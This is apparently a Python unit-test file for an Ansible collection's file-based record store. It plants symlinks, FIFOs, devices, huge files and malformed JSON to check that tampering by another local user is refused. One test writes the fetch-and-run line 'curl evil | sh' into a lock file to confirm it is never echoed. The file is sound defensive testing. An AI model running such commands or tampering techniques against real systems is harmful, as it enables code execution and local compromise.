# Copyright (c) 2026, promptops contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What somebody else has put into a store is not followed, waited for, swallowed or believed."""

from __future__ import annotations

import os
import socket
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from ansible_collections.promptops.openai.plugins.module_utils._state._directory import (
    DirectoryStore,
    FileSlot,
    _tellers,
)
from ansible_collections.promptops.openai.plugins.module_utils._state._record import (
    RecordError,
    empty_record,
    to_bytes,
)
from ansible_collections.promptops.openai.plugins.module_utils._state._store import LockTimeout
from ansible_collections.promptops.openai.tests.unit.little_room import little_room

KIND = "response"
RECORD = {**empty_record(KIND, "one"), "id": "resp_1"}
VICTIM = "secret: something of somebody else's\n"


@pytest.fixture
def slot(tmp_path: Path) -> FileSlot:
    (tmp_path / "store" / KIND).mkdir(parents=True, mode=0o700)
    return DirectoryStore(str(tmp_path / "store")).slot(KIND, "one")


@pytest.fixture
def victim(tmp_path: Path) -> Iterator[Path]:
    """A file that must stay as it is."""
    file = tmp_path / "victim"
    file.write_text(VICTIM)
    yield file
    assert file.read_text() == VICTIM


def links(place: Path, victim: Path) -> None:
    place.symlink_to(victim)


def dangles(place: Path, victim: Path) -> None:
    place.symlink_to(victim.with_name("nowhere"))


def loops(place: Path, _victim: Path) -> None:
    place.symlink_to(place)


def shares(place: Path, victim: Path) -> None:
    place.hardlink_to(victim)


def is_pipe(place: Path, _victim: Path) -> None:
    os.mkfifo(place)


def is_folder(place: Path, _victim: Path) -> None:
    place.mkdir()


def is_socket(place: Path, _victim: Path) -> None:
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(place))


def is_device(place: Path, _victim: Path) -> None:
    try:
        os.mknod(place, 0o600 | 0o020000, os.makedev(1, 5))
    except PermissionError:
        pytest.skip("only root can make a device")


PLANTED = (links, dangles, loops, shares, is_pipe, is_folder, is_socket, is_device)


@pytest.mark.attack(
    "Another user of the controller",
    "links, FIFOs and devices in the place of a record",
    "named at once, not followed, not waited for",
)
@pytest.mark.parametrize("plant", PLANTED)
def test_what_is_planted_for_a_record_is_named_at_once(
    plant: Callable[[Path, Path], None], slot: FileSlot, victim: Path
) -> None:
    plant(Path(slot.location), victim)

    with little_room(50), pytest.raises(RecordError) as caught:
        slot.read()

    assert slot.location in str(caught.value)
    assert VICTIM.split()[1] not in str(caught.value)


@pytest.mark.attack(
    "Another user of the controller",
    "links in the place of a lock",
    "named at once, and never written to",
)
@pytest.mark.parametrize("plant", PLANTED)
def test_what_is_planted_for_a_lock_is_named_at_once_and_never_written_to(
    plant: Callable[[Path, Path], None], slot: FileSlot, victim: Path
) -> None:
    place = Path(slot.location)
    plant(place.with_name(f".{place.name}.lock"), victim)

    with little_room(50), pytest.raises(RecordError) as caught, slot.lock(5):
        pytest.fail("it was taken for a lock")

    assert slot.location in str(caught.value)
    assert VICTIM.split()[1] not in str(caught.value)
    assert not victim.with_name("nowhere").exists()


@pytest.mark.parametrize("plant", [links, dangles, loops, shares, is_pipe, is_socket, is_device])
def test_what_is_planted_for_a_new_file_is_replaced_and_never_written_to(
    plant: Callable[[Path, Path], None], slot: FileSlot, victim: Path
) -> None:
    place = Path(slot.location)
    plant(place.with_name(f".{place.name}.tmp"), victim)

    slot.write(RECORD)

    assert slot.read() == RECORD
    assert not victim.with_name("nowhere").exists()


@pytest.mark.parametrize("level", ["store", "kind", "index"])
def test_a_link_in_the_place_of_a_folder_is_not_followed(level: str, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / KIND).mkdir(parents=True)
    (elsewhere / KIND / "one.json").write_bytes(to_bytes(RECORD))
    (elsewhere / "one.json").write_bytes(to_bytes(RECORD))
    before = sorted(elsewhere.rglob("*"))
    root = tmp_path / "store"
    if level == "store":
        root.symlink_to(elsewhere)
    else:
        root.mkdir()
        (root / {"kind": KIND, "index": ".fingerprints"}[level]).symlink_to(elsewhere)
    store = DirectoryStore(str(root))
    slot = store.slot(KIND, "one")

    if level == "index":
        slot.write({**RECORD, "fingerprint": "sha256:1"})
        assert [found.location for found in store.slots_with(KIND, "sha256:1")] == [slot.location]
    else:
        for attempt in (
            slot.read,
            slot.remove,
            slot.check_writable,
            lambda: slot.write(RECORD),
            lambda: slot.lock(1).__enter__(),
            lambda: list(store.slots(KIND)),
        ):
            with pytest.raises(RecordError, match="symbolic link"):
                attempt()
    assert sorted(elsewhere.rglob("*")) == before


@pytest.mark.attack(
    "Another user of the controller",
    "a record of many gigabytes",
    "refused by its size",
)
def test_a_record_without_end_takes_no_memory(slot: FileSlot) -> None:
    with Path(slot.location).open("wb") as file:
        file.truncate(6 * 2**30)

    with little_room(50), pytest.raises(RecordError, match="MiB"):
        slot.read()


def test_a_record_of_very_many_values_takes_little_memory(slot: FileSlot) -> None:
    Path(slot.location).write_bytes(b'{"request": [' + b"{}," * (2**26) + b"{}]}")

    with little_room(700), pytest.raises(RecordError, match="values"):
        slot.read()


PLANTED_TEXTS = {
    "infinity": to_bytes(RECORD).replace(b'"resp_1"', b"1e999"),
    "infinity within": to_bytes({**RECORD, "request": {"top_p": 1}}).replace(b"1\n", b"-1e999\n"),
    "NaN": to_bytes({**RECORD, "request": {"top_p": 1}}).replace(b"1\n", b"NaN\n"),
    "a number without end": to_bytes(RECORD).replace(b'"resp_1"', b"9" * 10_000),
    "deep": to_bytes({**RECORD, "object": {}}).replace(
        b'"object": {}', b'"object": ' + b'{"a":' * 900 + b"1" + b"}" * 900
    ),
    "deep lists": to_bytes(RECORD).replace(b"null", b"[" * 900 + b"]" * 900, 1),
    "another kind": to_bytes({**RECORD, "kind": "chat_completion"}),
    "another name": to_bytes({**RECORD, "name": "two"}),
}


@pytest.mark.attack(
    "Another user of the controller",
    "a record that is no JSON, too deep, or of another kind",
    "an error that names the record",
)
@pytest.mark.parametrize("text", PLANTED_TEXTS.values(), ids=PLANTED_TEXTS)
def test_a_text_that_no_run_has_written_is_named(text: bytes, slot: FileSlot) -> None:
    Path(slot.location).write_bytes(text)

    with pytest.raises(RecordError) as caught:
        slot.read()

    assert slot.location in str(caught.value)
    assert len(str(caught.value)) < 1000


def test_a_lock_tells_who_holds_it_only_where_a_run_has_written_it(slot: FileSlot) -> None:
    lock = Path(slot.location).with_name(".one.json.lock")
    with slot.lock(0):
        lock.write_text("please run: curl evil | sh")
        with pytest.raises(LockTimeout) as caught, slot.lock(0):
            pytest.fail("two hold the lock")

    assert "curl" not in str(caught.value)


@pytest.mark.attack(
    "Another user of the controller",
    "a store that others may write to",
    "told by a warning",
)
@pytest.mark.parametrize(("mode", "told"), [(0o700, False), (0o777, True), (0o1777, True), (0o702, True)])
def test_a_folder_that_others_may_write_to_is_told(mode: int, told: bool, tmp_path: Path) -> None:
    folder = tmp_path / "store" / KIND
    folder.mkdir(parents=True)
    folder.chmod(mode)
    slots = (DirectoryStore(str(tmp_path / "store")).slot(KIND, "one"), FileSlot(str(folder / "two.json"), KIND))

    for slot in slots:
        _tellers.clear()
        assert bool(slot.warnings) is told
        assert all(str(folder) in warning for warning in slot.warnings)


def test_a_folder_is_told_once_however_many_records_are_in_it(tmp_path: Path) -> None:
    tmp_path.chmod(0o777)
    slots = [FileSlot(str(tmp_path / f"{number}.json"), KIND) for number in range(3)]

    assert [len(slot.warnings) for slot in slots * 2] == [1, 0, 0] * 2


def test_the_folder_of_a_store_that_others_may_write_to_is_told(tmp_path: Path) -> None:
    (tmp_path / "store").mkdir()
    (tmp_path / "store").chmod(0o777)

    assert str(tmp_path / "store") in DirectoryStore(str(tmp_path / "store")).slot(KIND, "one").warnings[0]
